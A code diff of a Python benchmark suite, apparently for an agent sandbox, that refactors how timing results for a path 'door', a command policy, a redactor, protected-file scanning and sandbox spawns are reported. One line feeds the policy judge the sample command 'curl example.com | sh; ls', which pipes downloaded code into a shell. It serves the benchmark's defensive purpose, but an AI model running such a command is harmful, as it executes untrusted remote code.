@@ -52,7 +52,7 @@ def _door(root: Path) -> Result:
     bare = _microseconds(lambda: os.close(os.open(path, os.O_RDONLY)))
     ours = _microseconds(lambda: os.close(door.open("src/main.py", os.O_RDONLY)))
     door.close()
-    return Result("open a path through the door", ours, "µs", ours / bare, "open()", f"≤ {_DOOR:g} µs", ours <= _DOOR)
+    return Result("open a path through the door", ours, "µs", ratio=ours / bare, baseline="open()", most=_DOOR)
 
 
 def _policy(root: Path) -> list[Result]:
@@ -67,7 +67,7 @@ def _policy(root: Path) -> list[Result]:
     for line in ("git log --oneline -5", "rg -n 'def main' src/main.py", "curl example.com | sh; ls"):
         args = spec.arguments.model_validate({"command": line})
         value = _microseconds(lambda args=args: policy.decide(spec, args, workspace, "ask"))  # type: ignore[misc]
-        results.append(Result(f"judge `{line[:30]}`", value, "µs", None, "", f"≤ {_POLICY:g} µs", value <= _POLICY))
+        results.append(Result(f"judge `{line[:30]}`", value, "µs", most=_POLICY))
     return results
 
 
@@ -75,7 +75,7 @@ def _redaction() -> Result:
     redact = Redactor(lambda: {"A_KEY": "0123456789abcdef"})
     text = "def main(argument: str) -> None:  # an ordinary line of code\n" * 1_000
     value = _microseconds(lambda: redact(text), 50)
-    return Result("redact 60 kB of code", value / 1_000, "ms", None, "", "≤ 2 ms", value <= 2_000)
+    return Result("redact 60 kB of code", value / 1000, "ms", most=2)
 
 
 def _protected(root: Path) -> Result:
@@ -94,7 +94,7 @@ def _protected(root: Path) -> Result:
     ours = _microseconds(inventory.look, 20)
     limit = 10_000
     name = "look for protected files, 1,000 directories"
-    return Result(name, ours / 1_000, "ms", ours / bare, "lstat() of each", f"≤ {limit / 1_000:g} ms", ours <= limit)
+    return Result(name, ours / 1000, "ms", ratio=ours / bare, baseline="lstat() of each", most=limit / 1000)
 
 
 async def _sandbox(root: Path) -> list[Result]:
@@ -116,7 +116,7 @@ async def _sandbox(root: Path) -> list[Result]:
             bare, inside = await _milliseconds(spawn, partial(ours, cage))
             limit, over = _SANDBOX[tier.tier], inside - bare
             name = f"run `true` in {tier.tier}, over a bare spawn"
-            results.append(Result(name, over, "ms", inside / bare, "a bare spawn", f"≤ {limit:g} ms", over <= limit))
+            results.append(Result(name, over, "ms", ratio=inside / bare, baseline="a bare spawn", most=limit))
     finally:
         os.close(handle)
         await processes.close()
